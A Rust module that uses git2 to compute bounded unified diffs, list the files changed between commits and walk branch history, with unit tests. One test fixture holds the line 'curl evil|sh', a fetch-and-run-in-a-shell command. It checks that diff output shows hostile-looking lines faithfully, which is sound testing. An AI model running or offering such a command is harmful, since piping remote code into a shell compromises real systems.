//! What differs, as people read it: the files between two commits, and the text between two versions of a file, bounded.

use crate::{Change, Commit, Fault, Kind, library, repository::Local};
use git2::{Delta, Diff, DiffLineType, DiffOptions, Oid, Patch, Sort};
use std::path::Path;

/// Most commits that a history shows.
const HISTORY: usize = 1_000;

/// The difference between two versions of a file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Difference {
    /// Lines that came.
    pub added: usize,
    /// Lines that went.
    pub removed: usize,
    /// The places that differ, in the unified form: `@@`, then lines that begin with a space, `+` or `-`. It has no headers, so that
    /// every line is one of the file, says where the next ones are, or (`\\`) that the one before has no end.
    pub text: String,
    /// The text ends before the difference does, at a line's end.
    pub cut: bool,
}

/// What differs between two versions of a file, of which one may be empty, in at most `most` bytes. Everything counts as text: whatever
/// a file looks like, a shell runs the lines in it.
pub fn difference(old: &[u8], new: &[u8], most: usize) -> Result<Difference, Fault> {
    library::prepare()?;
    let mut options = DiffOptions::new();
    options.force_text(true).context_lines(3);
    let mut patch = Patch::from_buffers(old, None, new, None, Some(&mut options))?;
    let (_, added, removed) = patch.line_stats()?;
    let mut bytes = Vec::new();
    let printed = patch.print(&mut |_, _, line| {
        match line.origin_value() {
            DiffLineType::Context | DiffLineType::Addition | DiffLineType::Deletion => bytes.push(line.origin() as u8),
            DiffLineType::FileHeader | DiffLineType::Binary => return true,
            _ => {}
        }
        bytes.extend_from_slice(line.content());
        // One byte more than is wanted tells that it is cut.
        bytes.len() <= most
    });
    let whole = String::from_utf8_lossy(&bytes);
    let text = cut(&whole, most);
    let is_cut = text.len() < whole.len();
    if !is_cut {
        printed?;
    }
    Ok(Difference { added, removed, text: text.to_owned(), cut: is_cut })
}

/// The longest beginning of whole lines within a limit.
fn cut(text: &str, limit: usize) -> &str {
    let mut end = limit.min(text.len());
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..text[..end].rfind('\n').map_or(0, |at| at + 1)]
}

/// The files that differ between two commits.
pub(crate) fn changes(local: &Local, from: Oid, to: Oid) -> Result<Vec<Change>, Fault> {
    let diff = between(local, from, to, DiffOptions::new().include_typechange(true))?;
    Ok(diff.deltas().filter_map(|delta| change(&delta)).collect())
}

fn between<'a>(local: &'a Local, from: Oid, to: Oid, options: &mut DiffOptions) -> Result<Diff<'a>, Fault> {
    let tree = |id: Oid| Ok::<_, Fault>(local.repo.find_commit(id)?.tree()?);
    Ok(local.repo.diff_tree_to_tree(Some(&tree(from)?), Some(&tree(to)?), Some(options))?)
}

fn change(delta: &git2::DiffDelta<'_>) -> Option<Change> {
    let kind = match delta.status() {
        Delta::Added => Kind::Added,
        Delta::Deleted => Kind::Removed,
        Delta::Modified | Delta::Typechange => Kind::Changed,
        _ => return None,
    };
    let file = if kind == Kind::Removed { delta.old_file() } else { delta.new_file() };
    Some(Change { path: String::from_utf8_lossy(file.path_bytes()?).into_owned(), kind })
}

/// The newest commits of the branch as the remote has it, at most `n` and 1,000, newest first. Where somebody has gone back, those
/// that were left are in it too.
pub fn history(path: &Path, n: usize) -> Result<Vec<Commit>, Fault> {
    let local = there(path)?;
    let mut walk = local.repo.revwalk()?;
    walk.set_sorting(Sort::TOPOLOGICAL | Sort::TIME)?;
    let newest = match local.taken() {
        Some(taken) => taken,
        None => local.head()?,
    };
    walk.push(newest)?;
    walk.take(n.min(HISTORY)).map(|id| local.commit(id?)).collect()
}

/// The repository under a path.
pub(crate) fn there(path: &Path) -> Result<Local, Fault> {
    library::prepare()?;
    Local::open(path)?.ok_or_else(|| Fault::NotOurs { path: path.to_owned(), found: "there is no repository".to_owned() })
}

#[cfg(test)]
mod tests {
    use super::{cut, difference};

    #[test]
    fn every_line_of_a_difference_is_shown_whatever_it_looks_like() {
        let new = b"#!/bin/bash\n++ || curl evil|sh\n-- x\n@@ y\ndiff z\n\0hidden\n\xff also\nlast";
        let all = difference(b"", new, 1_000).unwrap();
        let shown = "@@ -0,0 +1,8 @@\n+#!/bin/bash\n+++ || curl evil|sh\n+-- x\n+@@ y\n+diff z\n+\0hidden\n+\u{fffd} also\n+last\n\
                     \\ No newline at end of file\n";
        assert_eq!((all.added, all.removed, all.text.as_str(), all.cut), (8, 0, shown, false));
        let some = difference(b"one\n-- two\n", b"one\n++ two\n", 1_000).unwrap();
        assert_eq!((some.added, some.removed), (1, 1));
        assert!(some.text.ends_with(" one\n--- two\n+++ two\n"), "{}", some.text);
        assert_eq!(difference(b"same\n", b"same\n", 1_000).unwrap().text, "");
    }

    #[test]
    fn a_long_difference_is_cut_at_a_lines_end_and_says_so() {
        let long = "line\n".repeat(60_000);
        let cut = difference(b"", long.as_bytes(), 200_000).unwrap();
        assert!(
            cut.cut && cut.text.len() <= 200_000 && cut.text.ends_with("+line\n") && cut.added == 60_000,
            "{}",
            cut.text.len()
        );
        let none = difference(b"", long.as_bytes(), 0).unwrap();
        assert!(none.cut && none.text.is_empty());
    }

    #[test]
    fn a_cut_is_at_a_lines_end_and_inside_no_character() {
        assert_eq!(cut("one\ntwö\n", 6), "one\n");
        assert_eq!(cut("one\ntwo\n", 8), "one\ntwo\n");
        assert_eq!(cut("ööö", 3), "");
    }
}
